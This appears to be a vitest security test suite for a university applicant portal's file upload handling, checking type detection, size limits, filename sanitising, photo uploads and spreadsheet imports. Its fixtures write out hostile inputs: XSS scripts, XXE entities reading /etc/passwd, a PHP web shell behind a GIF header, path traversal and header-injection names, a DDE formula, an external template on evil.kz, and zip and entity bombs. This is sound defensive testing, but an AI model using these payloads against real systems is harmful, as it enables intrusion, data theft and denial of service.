import { MAX_FILE_BYTES } from '@portal/domain/documents/schema.ts'
import { unzip } from '@portal/office-files/test/unzip.ts'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Answer, Person } from '../portal.ts'
import { compoundFile, JPEG, jpegPhoto, PDF, PNG, pngPhoto, upload, zipOf, zipWith } from '../sample-files.ts'
import { testPortal } from '../test-portal.ts'

/** The gate that every file passes, and what becomes of its name and content on the way out. */
const portal = await testPortal({ isListening: true, environment: { KEPT_MEGABYTES: '500' } })
let person: Person
let editor: Person
let head: Person

beforeAll(async () => {
  person = await portal.applicant()
  editor = await portal.staff(['MANAGER'], { university: 'uni-010' })
  head = await portal.staff(['EXPERT_MANAGER'])
})

const refusal = ({ status, body }: Answer) => `${status} ${body.msg ?? ''}`.trim()
const text = (content: string) => Buffer.from(content)
const types = '<?xml version="1.0"?><Types/>'
const docx = (entries: Record<string, string>) =>
  zipOf({ '[Content_Types].xml': types, 'word/document.xml': '<x/>', ...entries })
const rels = (type: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="${type}" Target="${target}"/></Relationships>`
const OFFICE = 'http://schemas.microsoft.com/office/2006/relationships'

describe('what is no document under the name of one', () => {
  const files: Readonly<Record<string, () => Buffer | Promise<Buffer>>> = {
    nothing: () => Buffer.alloc(0),
    'one byte': () => text('%'),
    'a page': () => text('<!doctype html><script>alert(1)</script>'),
    'a page that ends as a PDF': () => Buffer.concat([text('<script>alert(1)</script>\n'), PDF]),
    'a drawing with a script': () => text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'XML with an entity': () => text('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    'a program of Windows': () => Buffer.concat([text('MZ'), Buffer.alloc(200)]),
    'a program of Linux': () => Buffer.concat([text('\u007fELF'), Buffer.alloc(200)]),
    'a shell script': () => text('#!/bin/sh\nid\n'),
    'a program of PHP behind the head of a GIF': () => text('GIF89a<?php system($_GET[0]); ?>'),
    'a picture of another kind': () => Buffer.concat([text('RIFF\0\0\0\0WEBP'), Buffer.alloc(100)]),
    'a film': () => Buffer.concat([Buffer.from([0, 0, 0, 24]), text('ftypmp42'), Buffer.alloc(100)]),
    'half the head of a PNG': () => PNG.subarray(0, 4),
    'half the head of a JPEG': () => JPEG.subarray(0, 2),
    'a compressed archive': () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0]),
    'another archive': () => text('Rar!\u001a\u0007\u0000aaaaaaaaaaaa'),
    'a zip': () => zipWith('passport.pdf'),
    'a program of Java': () => zipWith('META-INF/MANIFEST.MF', 'Main.class'),
    'a spreadsheet': () => zipWith('[Content_Types].xml', 'xl/workbook.xml'),
    'a spreadsheet with macros': () => zipWith('[Content_Types].xml', 'xl/workbook.xml', 'xl/vbaProject.bin'),
    'a zip that ends too early': async () =>
      (await zipWith('[Content_Types].xml', 'word/document.xml')).subarray(0, 60),
    'an old table': () => compoundFile('Workbook'),
    'an old document with macros': () => compoundFile('WordDocument', 'Macros'),
    'an old document with a project of macros': () => compoundFile('WordDocument', '_VBA_PROJECT_CUR'),
    'an old document with macros under its own name': () => compoundFile('WordDocument', 'VBA'),
    'an installer': () => compoundFile('Property', 'Binary.Icon'),
    'a document with macros': () => docx({ 'word/vbaProject.bin': 'x' }),
    'a document with macros elsewhere': () => docx({ 'word/hidden/VBAPROJECT.BIN': 'x' }),
    'a document that its list of contents calls one with macros': () =>
      docx({
        '[Content_Types].xml': '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      }),
    'a document with macros under another name': () =>
      docx({ 'word/_rels/document.xml.rels': rels(`${OFFICE}/vbaProject`, 'image1.png') }),
    'a bomb': () => docx({ 'word/document.xml': 'a'.repeat(51_000_000) }),
    'a bomb of many lists': () =>
      docx(Object.fromEntries(Array.from({ length: 200 }, (_, at) => [`${at}.rels`, '<x/>']))),
    'a document that names macros by a reference to a character': () =>
      docx({
        '[Content_Types].xml': '<Types><Default ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
      }),
    'a document with a template of another host': () =>
      docx({
        'word/_rels/settings.xml.rels': rels(
          `${OFFICE}/attachedTemplate`,
          'https://evil.kz/a.dotm" TargetMode="External',
        ),
      }),
    'a document with an embedded object': () =>
      docx({ 'word/_rels/document.xml.rels': rels(`${OFFICE}/oleObject`, 'a.bin') }),
    'a bomb that says it is small': async () => {
      const bytes = await docx({ 'word/media/image1.png': 'a'.repeat(51_000_000) })
      bytes.writeUInt32LE(100, bytes.lastIndexOf('word/media/image1.png') - 46 + 24)
      return bytes
    },
    'a bomb of one long list': () => docx({ '1.rels': 'a'.repeat(2_000_000) }),
  }
  const cells = Object.keys(files).flatMap((what) => ['passport.pdf', 'letter.docx'].map((name) => ({ what, name })))
  const made = new Map<string, Buffer>()
  // A bomb takes as long to make as to defuse.
  const bytesOf = async (what: string): Promise<Buffer> => {
    const bytes = made.get(what) ?? (await files[what]?.()) ?? Buffer.alloc(0)
    made.set(what, bytes)
    return bytes
  }
  test.each(cells)('$what as $name', async ({ what, name }) => {
    expect(refusal(await upload(person, name, await bytesOf(what)))).toBe('415 wrong_file_type')
  })

  test.each(Object.keys(files))('%s in pieces', async (what) => {
    const bytes = await bytesOf(what)
    const { body } = await person.call('POST', '/file/upload/begin', { name: 'a.pdf', size: bytes.length })
    const piece = await upload(person, 'p', bytes, 'file', `/file/upload/piece?id=${body.data.id}&offset=0`)
    expect(refusal(piece)).toBe('415 wrong_file_type')
  })

  test.each([
    ['a PDF', PDF],
    ['a JPEG', JPEG],
    ['a PNG', PNG],
    ['an old document', compoundFile('1Table', 'WordDocument')],
  ])('%s is taken, under an ending of its own', async (_what, bytes) => {
    const { status, body } = await upload(person, 'x.html', bytes)
    expect([status, body.data?.name]).toEqual([200, expect.not.stringMatching(/\.html$/)])
  })
  test('a new document is taken', async () => {
    expect(refusal(await upload(person, 'a.docx', await docx({})))).toBe('200')
  })
})

describe('sizes to the byte', () => {
  const filled = (length: number) => Buffer.concat([PDF, Buffer.alloc(length - PDF.length)])
  test.each([
    [MAX_FILE_BYTES, '200'],
    [MAX_FILE_BYTES + 1, '413 big-file-size'],
    [MAX_FILE_BYTES * 2, '413 big-file-size'],
  ])('%d bytes: %s', async (length, expected) => {
    expect(refusal(await upload(person, 'a.pdf', filled(length)))).toBe(expected)
  })
  test.each([
    [MAX_FILE_BYTES, '200'],
    [MAX_FILE_BYTES + 1, '413 big-file-size'],
    [-1, '400 wrong_value'],
    [1.5, '400 wrong_value'],
    [1e300, '413 big-file-size'],
    ['5', '400 wrong_value'],
  ])('begun with %j bytes: %s', async (size, expected) => {
    const answer = await person.call('POST', '/file/upload/begin', { name: 'a.pdf', size })
    expect([expected, ...(size === 1e300 ? ['400 wrong_value'] : [])]).toContain(refusal(answer))
    if (answer.status === 200) await person.call('DELETE', `/file/upload?id=${answer.body.data.id}`)
  })
  test('the next call of a connection whose file was refused in its middle is answered', async () => {
    for (let count = 0; count < 3; count += 1) {
      expect((await upload(person, 'a.pdf', filled(MAX_FILE_BYTES + 300_000))).status).toBe(413)
      expect(await person.call('GET', '/user/profile')).toMatchObject({ status: 200 })
    }
  })
  test.each([
    ['behind its end', 11, 0],
    ['more than was said', 0, 20],
    ['before its beginning', -1, 0],
  ])('a piece %s', async (_what, offset, more) => {
    const { body } = await person.call('POST', '/file/upload/begin', { name: 'a.pdf', size: 10 })
    const bytes = PDF.subarray(0, 10 + more)
    const answer = await upload(person, 'p', bytes, 'file', `/file/upload/piece?id=${body.data.id}&offset=${offset}`)
    expect([400, 409, 413]).toContain(answer.status)
  })
})

describe('names', () => {
  const names: readonly string[] = [
    '../../etc/passwd',
    '..\\..\\windows\\system32\\a.pdf',
    '/etc/cron.d/a',
    'C:\\a.pdf',
    'a.pdf%00.html',
    'a\u202efdp.exe',
    'CON',
    '.htaccess',
    ' . . ',
    'a'.repeat(5_000),
    "a.pdf; filename*=utf-8''b.html",
    '<img src=x onerror=alert(1)>.pdf',
    '{{7*7}}#{7*7}.pdf',
    "'; drop table files; --.pdf",
    '=cmd|calc!A1.pdf',
    '😀ә.pdf',
  ]
  test.each(names)('%j stays a name', async (name) => {
    const { status, body } = await upload(person, name, PDF)
    expect(status, JSON.stringify(body)).toBe(200)
    const { id, name: kept } = body.data as { id: string; name: string }
    expect(kept).toMatch(/\.pdf$/)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(kept).not.toMatch(/[/\\\u0000-\u001f\u202e]/)
    expect(kept.length).toBeLessThanOrEqual(255)
    const file = await person.call('GET', `/file/download?id=${id}`)
    expect(file.status).toBe(200)
    expect(file.headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'content-type': 'application/pdf' })
    expect(String(file.headers['content-disposition'])).not.toMatch(/[\r\n]/)
    const archive = await person.call('GET', `/file/zip-download?name=${id}`)
    for (const inside of (await unzip(archive.body as Buffer)).keys())
      expect(inside).not.toMatch(/\.\.[/\\]|^[/\\]|^\w:/)
  })
  test.each(['\r\nX-Injected: 1', '\r\n\r\n<script>'])(
    'one with the end of a line (%j) is refused or loses it',
    async (end) => {
      const answer = await upload(person, `a${end}.pdf`, PDF)
      expect(answer.status).toBeLessThan(500)
      if (answer.status !== 200) return
      expect(JSON.stringify(answer.body)).not.toMatch(/\\r|\\n|X-Injected/)
    },
  )
  test('a document that a program could run is never shown in place', async () => {
    const { body } = await upload(person, 'a.docx', await docx({}))
    const file = await person.call('GET', `/file/download?id=${body.data.id}`)
    expect(String(file.headers['content-disposition'])).toMatch(/^attachment/)
  })
})

describe('photos of a university', () => {
  const add = (bytes: Buffer) => upload(editor, 'photo.jpg', bytes, 'file', '/university/photos')
  const files: Readonly<Record<string, () => Buffer>> = {
    'a PDF': () => PDF,
    'a drawing': () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'a page': () => text('<script>alert(1)</script>'),
    'a picture that unpacks to more than a phone holds': () => pngPhoto(60_000, 60_000),
    'a picture without a size': () => pngPhoto(0, 0),
    'the head of a picture alone': () => PNG.subarray(0, 8),
  }
  test.each(Object.entries(files))('%s', async (_what, bytes) => {
    const answer = await add(bytes())
    expect([400, 413, 415], refusal(answer)).toContain(answer.status)
  })
  test.each([
    ['PNG', () => pngPhoto(4, 3, 'Comment\0<script>alert(1)</script>')],
    ['JPEG', () => jpegPhoto(4, 3, 1, '<script>alert(1)</script>')],
  ])('a script in the words of a %s is not among what is shown', async (_what, bytes) => {
    const { status, body } = await add(bytes())
    expect(status).toBe(200)
    const shown = await portal.guest.call('GET', `/dictionary/university/uni-010/photos/${body.data.id}`)
    expect((shown.body as Buffer).toString('latin1')).not.toContain('<script')
    expect(shown.headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-type': expect.stringMatching(/^image\//),
    })
  })
})

describe('tables that are read', () => {
  const sheet = (content: string, more: Record<string, string> = {}) =>
    zipOf({
      '[Content_Types].xml':
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      'xl/workbook.xml': content,
      ...more,
    })
  const files: Readonly<Record<string, () => Buffer | Promise<Buffer>>> = {
    'a PDF': () => PDF,
    text: () => text('number,date\n1,2'),
    'an entity from a file': () =>
      sheet('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'),
    'an entity from the network': () =>
      sheet('<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:1/">]><workbook>&e;</workbook>'),
    'entities that multiply': () =>
      sheet(
        `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]><workbook>&j;</workbook>`,
      ),
    'a bomb': () => sheet('<workbook/>', { 'xl/worksheets/sheet1.xml': 'a'.repeat(51_000_000) }),
    'a table with macros': () => sheet('<workbook/>', { 'xl/vbaProject.bin': 'x' }),
    'a zip that ends too early': async () => (await sheet('<workbook/>')).subarray(0, 100),
    'nesting without end': () => sheet(`${'<a>'.repeat(100_000)}`),
  }
  test.each(Object.entries(files))('%s', async (_what, bytes) => {
    const answer = await upload(head, 'schedule.xlsx', await bytes(), 'file', '/staff/interview/upload')
    expect([400, 413, 415], refusal(answer)).toContain(answer.status)
    expect(JSON.stringify(answer.body)).not.toMatch(/root:|aaaaaaaaaaaaaaaaaaaa/)
  })
  test('the template itself is read', async () => {
    const template = await head.call('GET', '/staff/interview/upload/template')
    const answer = await upload(head, 'schedule.xlsx', template.body as Buffer, 'file', '/staff/interview/upload')
    expect(answer.status, refusal(answer)).not.toBe(415)
  })
})
